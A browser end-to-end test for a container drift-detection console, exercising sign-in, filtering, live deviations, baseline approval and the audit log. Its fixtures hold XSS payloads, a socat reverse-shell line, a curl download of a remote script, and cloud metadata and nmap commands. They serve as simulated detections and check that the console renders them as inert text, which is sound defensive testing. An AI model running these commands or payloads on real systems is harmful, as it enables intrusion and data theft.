/**
 * The web console in headless Chromium, against a real API, engine and store: sign in, filter,
 * a deviation arriving live, its page, approving a baseline from its diff, the audit log — and
 * attacker-controlled strings rendered as inert text. (The README's screenshots come from the demo:
 * test/ui/screenshots.test.ts.)
 */
import t from 'tap';
import { launchBrowser, NEEDS_CHROMIUM } from '../helpers/browser.js';
import { HOUR, net, proc, startHarness, workload, type Harness } from '../helpers/api-harness.js';

// The browser globals the page functions below touch (the project compiles without the DOM lib).
declare const document: {
  querySelectorAll(selector: string): Iterable<{ textContent: string | null }> & { length: number };
};
declare const window: Record<string, unknown>;
declare const sessionStorage: { getItem(key: string): string | null };
declare const localStorage: { length: number };

const EVIL_POD = 'web-"><img src=x onerror="window.__xss=3">';
const EVIL = '<script>window.__xss=1</script> "><img src=x onerror="window.__xss=2"> \u001b[31mred\u001b[0m';

/** A small cluster as of now: three namespaces, one workload relearned, a dozen deviations. */
async function scene(h: Harness): Promise<{ api: ReturnType<typeof workload>; apiGen2: number }> {
  const now = Date.now();
  const web = workload('shop', 'web');
  const api = workload('shop', 'api');
  const pay = workload('payments', 'ledger');
  const mon = workload('monitoring', 'exporter');
  await h.ingest(
    proc(web, now - 10 * HOUR, '/usr/sbin/nginx', '-g daemon off;'),
    net(web, now - 10 * HOUR + 1, 'listen', null, 8080),
    proc(api, now - 10 * HOUR + 2, '/app/server', '--port 9000'),
    proc(api, now - 10 * HOUR + 3, '/usr/bin/python3', 'manage.py migrate'),
    net(api, now - 10 * HOUR + 4, 'egress', '10.96.0.10', 53),
    proc(pay, now - 10 * HOUR + 5, '/usr/local/bin/ledger'),
    proc(mon, now - 10 * HOUR + 6, '/bin/node_exporter'),
  );
  await h.engine.unitOfWork.tick(now - 8 * HOUR);
  // api is relearned: its second generation stops running migrations and calls the payments API.
  await h.engine.relearn(api);
  await h.ingest(
    proc(api, now - 6 * HOUR, '/app/server', '--port 9000'),
    net(api, now - 6 * HOUR + 1, 'egress', '10.96.0.10', 53),
    net(api, now - 6 * HOUR + 2, 'egress', '10.96.14.2', 8443),
  );
  await h.engine.unitOfWork.tick(now - 4 * HOUR);
  const raised: [ReturnType<typeof workload>, number, Parameters<typeof proc>[2], string][] = [
    [web, 3.5, '/bin/bash', '-i'],
    [web, 3.2, '/usr/bin/curl', '-fsSL http://198.51.100.23/x.sh'],
    [web, 3.0, '/tmp/.x/kworker', EVIL],
    [pay, 2.5, '/usr/bin/apt-get', 'install -y nmap'],
    [pay, 2.0, '/usr/bin/nmap', '-sS 10.244.0.0/16'],
    [mon, 1.5, '/usr/bin/wget', 'http://169.254.169.254/latest/meta-data/'],
    [api, 1.0, '/usr/local/bin/report', '--daily'],
  ];
  for (const [w, hoursAgo, exe, args] of raised) await h.raise(proc(w, now - hoursAgo * HOUR, exe, args, { parent: '/usr/bin/containerd-shim' }));
  // The same binary again, from a pod whose name is markup (names come from the node, unchecked).
  await h.raise(proc(web, now - 2.9 * HOUR, '/tmp/.x/kworker', EVIL, { pod: EVIL_POD, parent: '/usr/bin/containerd-shim' }));
  await h.raise(net(web, now - 0.8 * HOUR, 'egress', '203.0.113.77', 4444, { exe: '/bin/bash' }));
  await h.raise(net(mon, now - 0.5 * HOUR, 'egress', '192.0.2.10', 443, { exe: '/bin/node_exporter', peerName: 'telemetry.example.net' }));
  const at = new Date(now - 20_000).toISOString();
  await h.store.agents.hello({ instanceId: 'a-node-1', node: 'node-1', cluster: 'test', version: '0.1.0', sources: ['tetragon-grpc'] }, at);
  await h.store.agents.hello({ instanceId: 'a-node-2', node: 'node-2', cluster: 'test', version: '0.1.0', sources: ['tetragon-grpc', 'falco-http'] }, at);
  await h.store.agents.hello({ instanceId: 'a-node-3', node: 'node-3', cluster: 'test', version: '0.1.0', sources: ['falco-http'] }, new Date(now - 3 * HOUR).toISOString());
  h.store.connection.run("UPDATE agents SET connected = 0 WHERE instance_id = 'a-node-3'");
  return { api, apiGen2: await h.baselineOf(api) };
}

t.test('the console in Chromium', NEEDS_CHROMIUM, async (t) => {
  const h = await startHarness(t);
  const { apiGen2 } = await scene(h);
  const browser = await launchBrowser(t);
  const context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
  const page = await context.newPage();
  const problems: string[] = [];
  page.on('pageerror', (e) => problems.push(`page error: ${e.message}`));
  page.on('console', (m) => {
    if (m.type() === 'error' && !/401|403|409/.test(m.text())) problems.push(`console: ${m.text()}`);
  });
  page.on('dialog', (d) => void d.accept());
  await page.route(/^(?!http:\/\/127\.0\.0\.1)/, (route) => {
    problems.push(`external request: ${route.request().url()}`);
    return route.abort();
  });

  // Sign in.
  await page.goto(`${h.base}/ui/`);
  await page.waitForSelector('form.signin');
  await page.waitForLoadState('networkidle');
  await page.fill('#token', 'dw_wrong');
  await page.click('form.signin button[type=submit]');
  await page.waitForSelector('form.signin .error:not(:empty)');
  await page.fill('#token', h.tokens.admin);
  await page.click('form.signin button[type=submit]');
  await page.waitForSelector('h1:text("Overview")');
  await page.waitForSelector('#live.state-live');
  t.equal(await page.textContent('#who'), 'admin (admin)');
  t.equal(await page.evaluate(() => sessionStorage.getItem('driftwatch.token')?.startsWith('dw_')), true, 'the token is kept in sessionStorage');
  t.equal(await page.evaluate(() => localStorage.length), 0, 'and nowhere else');
  await page.waitForLoadState('networkidle');

  // Deviations, filtered through the form: the filters go into the URL.
  await page.click('a[data-nav=deviations]');
  // The page first draws an empty table, then the fetched rows: wait for the data rows themselves.
  await page.waitForFunction(() => document.querySelectorAll('table.grid tbody tr[data-id]').length > 0);
  const all = await page.locator('table.grid tbody tr[data-id]').count();
  t.equal(all, 9);
  await page.selectOption('select[name=severity]', 'high,critical');
  // The URL carries the API's parameter: the same name and meaning as /api/v1/deviations?severity=…
  await page.waitForURL(/severity=high%2Ccritical/);
  // The page re-renders from the URL: wait until the rows are the filtered ones.
  await page.waitForFunction((n) => {
    const rows = document.querySelectorAll('table.grid tbody tr td:first-child');
    return rows.length > 0 && rows.length < n && [...rows].every((td) => td.textContent === 'high' || td.textContent === 'critical');
  }, all);
  const severities = await page.locator('table.grid tbody tr td:first-child').allTextContents();
  t.ok(severities.length > 0 && severities.every((s) => s === 'high' || s === 'critical'), `only high and up: ${severities.join(',')}`);
  await page.fill('input[name=namespace]', 'shop');
  await page.press('input[name=namespace]', 'Enter');
  await page.waitForURL(/namespace=shop/);
  await page.waitForFunction(() => {
    const cells = document.querySelectorAll('table.grid tbody tr td:nth-child(3)');
    return cells.length > 0 && [...cells].every((td) => td.textContent?.startsWith('shop/'));
  });
  // Reloading keeps the filters (they are in the URL).
  await page.reload();
  await page.waitForSelector('table.grid tbody tr');
  t.equal(await page.inputValue('select[name=severity]'), 'high,critical');
  t.equal(await page.inputValue('input[name=namespace]'), 'shop');

  // Attacker strings are text: no element, no script ran, the markup is visible as characters.
  t.equal(await page.evaluate(() => window.__xss), undefined, 'no injected script ran');
  t.equal(await page.locator('table.grid img').count(), 0, 'no injected element');
  const evilRow = page.locator('table.grid tbody tr', { hasText: '/tmp/.x/kworker' });
  t.match(await evilRow.textContent(), '<script>window.__xss=*</script> "><img src=x onerror="window.__xss=*">', 'the markup shows as text');
  await page.waitForLoadState('networkidle');

  // A new deviation arrives live, without a reload.
  await page.evaluate(() => (window.__marker = 42));
  const now = Date.now();
  const live = await h.raise(proc(workload('shop', 'web'), now, '/usr/bin/socat', 'tcp:198.51.100.9:9001 exec:/bin/sh'));
  await page.waitForSelector(`table.grid tbody tr[data-id="${live.id}"]`);
  t.equal(await page.evaluate(() => window.__marker), 42, 'the page was not reloaded');
  t.equal(await page.locator('table.grid tbody tr').first().getAttribute('data-id'), String(live.id), 'the new row is on top');
  // One that does not match the filters does not appear.
  const quiet = await h.raise(proc(workload('payments', 'ledger'), now + 1, '/usr/bin/true'));
  await page.waitForTimeout(300);
  t.equal(await page.locator(`table.grid tbody tr[data-id="${quiet.id}"]`).count(), 0, 'filtered out live too');

  // Keyboard: j moves to the first row, Enter opens it.
  await page.click('h1');
  await page.keyboard.press('j');
  await page.keyboard.press('Enter');
  await page.waitForSelector('h2:text("Process tree")');
  t.match(page.url(), new RegExp(`#/deviations/${live.id}$`));
  await page.goBack();

  // Open the attacker's deviation.
  await page.click('table.grid tbody tr:has-text("/tmp/.x/kworker") a');
  await page.waitForSelector('h2:text("Process tree")');
  t.match(await page.textContent('ul.tree'), '/usr/bin/containerd-shim');
  t.match(await page.textContent('ul.tree li.self'), '<script>window.__xss=1</script>');
  t.match(await page.locator('section:has(h2:text("Pods"))').textContent(), EVIL_POD, 'a pod name that is markup shows as text');
  t.equal(await page.locator('main img').count(), 0);
  t.equal(await page.evaluate(() => window.__xss), undefined);
  await page.waitForLoadState('networkidle');
  await page.fill('#comment', 'investigating with the shop team');
  await page.click('button[data-action=ack]');
  await page.waitForSelector('.badge.status-acknowledged');

  // The relearned workload: approve its new generation from the diff.
  await page.goto(`${h.base}/ui/#/baselines/${apiGen2}`);
  await page.waitForSelector('ul.diff li.added');
  const added = await page.locator('ul.diff li.added code').allTextContents();
  const removed = await page.locator('ul.diff li.removed code').allTextContents();
  t.ok(added.includes('n|egress|tcp|8443|ip|10.96.14.2'), `added: ${added.join(' ')}`);
  t.ok(removed.includes('p|/usr/bin/python3'), `removed: ${removed.join(' ')}`);
  await page.waitForLoadState('networkidle');
  // What-if: a stricter candidate, evaluated over the stored observations.
  await page.click('details summary:text("What if")');
  await page.fill('#whatif-yaml', 'apiVersion: driftwatch.dev/v1\nkind: Baseline\nmetadata: { name: strict }\nspec:\n  selector: { namespace: shop }\n  mode: replace\n  allow:\n    processes: [{ path: /app/server }]\n');
  await page.click('details button:text("Evaluate")');
  await page.waitForSelector('details + div[role=status] li.item, div[role=status] li.item');
  const wouldRaise = await page.locator('div[role=status] li.item code').allTextContents();
  t.ok(wouldRaise.includes('n|egress|tcp|8443|ip|10.96.14.2'), `what-if: ${wouldRaise.join(' ')}`);
  await page.fill('#decision-comment', 'payments client is expected in release 42');
  await page.click('button[data-action=approve]');
  await page.click('button[data-action=confirm-approve]');
  await page.waitForSelector('h1 .badge.phase-approved');
  t.same(await page.locator('p:has-text("Export:") button').allTextContents(), ['yaml', 'networkpolicy', 'falco', 'tetragon'], 'an approved baseline exports in every format');

  // The approval is in the audit log.
  await page.click('a[data-nav=audit]');
  const approval = page.locator('table.grid tbody tr', { hasText: 'baseline.approve' });
  await approval.first().waitFor();
  t.equal(await approval.count(), 1);
  t.match(await approval.textContent(), 'payments client is expected in release 42');
  t.match(await approval.textContent(), 'token:admin');
  await page.waitForLoadState('networkidle');

  await page.click('a[data-nav=workloads]');
  await page.waitForSelector('table.grid tbody tr');
  await page.waitForLoadState('networkidle');
  await page.click('a[data-nav=agents]');
  await page.waitForSelector('table.grid tbody tr');
  await page.waitForLoadState('networkidle');

  // A scoped viewer sees its namespace only, and no action buttons.
  await page.click('#signout');
  await page.waitForSelector('form.signin');
  await page.fill('#token', h.tokens.otherViewer);
  await page.click('form.signin button[type=submit]');
  await page.waitForSelector('#who:text("team-b-viewer")');
  await page.goto(`${h.base}/ui/#/deviations`);
  // The deviations page's own status line: under load, a status line of the page shown before
  // sign-out could still be there when a bare :not(:empty) matched, with that page's rows.
  await page.waitForSelector('h1:text("Deviations") ~ p[role=status]:not(:empty)');
  t.equal(await page.locator('table.grid tbody tr').count(), 0, 'team-b has no deviations');
  t.same(problems, [], 'no page errors, no external requests');
});
